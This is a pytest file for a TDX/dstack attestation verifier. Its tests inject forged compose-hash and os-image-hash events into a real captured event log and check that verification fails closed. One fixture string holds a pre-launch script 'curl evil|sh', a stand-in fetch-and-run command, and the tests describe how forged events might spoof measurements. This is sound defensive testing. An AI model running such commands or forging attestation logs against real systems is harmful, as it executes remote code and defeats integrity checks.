"""Issue 12 item 1: runtime values are read only from RTMR3 events that replayed into the quote's RTMR3.

Each attack appends or injects an event into a real captured log (reports/nanogpt-gemma-2026-06) and shows the
verifier now fails closed."""

from __future__ import annotations

import hashlib
import json

import pytest

from phalanb.errors import ParseError
from phalanb.policy import Policy
from phalanb.tdx import parse_quote
from phalanb.tdx.dstack import check_compose_hash, derive
from phalanb.tdx.eventlog import DSTACK_RUNTIME_EVENT, check_event_log, parse_ccel_log, parse_event_log
from phalanb.verdict import Status
from phalanb.vllm.verify import verify_report

EVIL_COMPOSE = '{"docker_compose_file": "services: {evil: {image: evil}}", "pre_launch_script": "curl evil|sh"}'
EVIL_HASH = hashlib.sha256(EVIL_COMPOSE.encode()).hexdigest()


@pytest.fixture(scope="module")
def real(fixtures):
    r = json.loads((fixtures / "reports" / "nanogpt-gemma-2026-06" / "attestation_report.json").read_text())
    return r, parse_quote(r["intel_quote"]), json.loads(r["event_log"])


def _runtime(imr: int, name: str, payload_hex: str) -> dict:
    return {"imr": imr, "event_type": DSTACK_RUNTIME_EVENT, "digest": "", "event": name,
            "event_payload": payload_hex}


@pytest.mark.parametrize("imr", [4, -1, 99])
def test_event_outside_rtmr0_3_is_malformed(real, imr):
    _r, q, events = real
    forged = events + [_runtime(imr, "compose-hash", EVIL_HASH)]
    with pytest.raises(ParseError) as err:
        parse_event_log(forged)
    assert f"event_log[{len(events)}].imr" in str(err.value) and "not an RTMR" in str(err.value)
    # The attack (before: app.compose_hash PASS for a configuration that is not running) now fails closed.
    check = check_compose_hash(q, forged, app_compose=EVIL_COMPOSE)
    assert check.status is Status.FAIL and "cannot be read" in check.reason
    assert check_event_log(q, forged).status is Status.FAIL


def test_pinned_compose_hash_is_not_met_by_an_event_outside_rtmr3(real):
    r, _q, events = real
    forged = dict(r, event_log=json.dumps(events + [_runtime(4, "compose-hash", EVIL_HASH)]),
                  info=dict(r["info"], app_compose=EVIL_COMPOSE))
    forged.pop("all_attestations", None)
    verdict = verify_report(forged, policy=Policy(expected={"compose_hash": EVIL_HASH}), at=1.78e9)
    assert verdict["policy.measurements"].status is not Status.PASS
    assert verdict["app.compose_hash"].status is Status.FAIL
    assert verdict.status != "verified"


def test_pinned_os_image_is_not_met_by_an_appended_event(real):
    r, q, events = real
    evil_image = "ab" * 32
    for imr in (3, 4):  # in RTMR3 the replay no longer matches; elsewhere the log is malformed
        forged = events + [_runtime(imr, "os-image-hash", evil_image)]
        if imr == 4:
            with pytest.raises(ParseError):
                derive(forged, quote=q)
            continue
        facts = derive(forged, quote=q)
        assert facts.replayed is False and facts.os_image_hash is None and facts.compose_hash is None
        forged_report = dict(r, event_log=json.dumps(forged))
        forged_report.pop("all_attestations", None)
        verdict = verify_report(forged_report, policy=Policy(expected={"os_image_hash": evil_image}), at=1.78e9)
        assert verdict["policy.measurements"].status is not Status.PASS


def test_runtime_values_need_the_replay_to_match_rtmr3(real):
    _r, q, events = real
    genuine = derive(events, quote=q)
    assert genuine.replayed is True and genuine.compose_hash is not None
    forged = events + [_runtime(3, "compose-hash", EVIL_HASH)]
    check = check_compose_hash(q, forged, app_compose=EVIL_COMPOSE)
    assert check.status is Status.FAIL and "not believed" in check.reason


def test_first_runtime_event_wins_and_duplicate_compose_hash_is_refused(real):
    _r, _q, events = real
    first = next(e for e in events if e.get("event") == "compose-hash")
    log = parse_event_log(events + [_runtime(3, "compose-hash", EVIL_HASH)])
    assert log.runtime("compose-hash").event_payload.hex() == first["event_payload"]  # dstack's ra-tls rule
    assert len(log.runtime_named("compose-hash")) == 2
    # A quote whose RTMR3 includes both events (a TD that extended a second compose-hash after boot).
    from dataclasses import replace

    from phalanb.tdx.eventlog import replay

    q = real[1]
    rtmrs = replay(log).rtmrs
    doubled = replace(q, body=replace(q.body, rt_mr3=rtmrs[3]))
    check = check_compose_hash(doubled, log, app_compose=EVIL_COMPOSE)
    assert check.status is Status.FAIL and "2 compose-hash events" in check.reason


def test_ccel_event_outside_rtmr1_4_is_malformed(tdx_dir):
    data = bytearray((tdx_dir / "go-tdx-guest/ccel_ccel_data.dat").read_bytes())
    log = parse_ccel_log(bytes(data))
    target = next(e for e in log if e.offset and e.event_type != 3)
    data[target.offset:target.offset + 4] = (5).to_bytes(4, "little")
    with pytest.raises(ParseError) as err:
        parse_ccel_log(bytes(data))
    assert "MR index 5" in str(err.value)
